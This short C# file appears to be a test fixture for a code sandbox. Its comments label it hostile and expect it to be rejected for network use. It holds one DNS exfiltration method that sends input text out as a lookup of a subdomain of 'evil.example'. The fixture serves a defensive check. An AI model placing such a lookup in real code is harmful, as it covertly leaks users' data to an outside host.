// hostile: leaks data through DNS lookups
// expect: rejected network 7
public static class P
{
    public static int Label(string text)
    {
        var entry = System.Net.Dns.GetHostEntry(text + ".evil.example");
        return entry is null ? 0 : 1;
    }
}
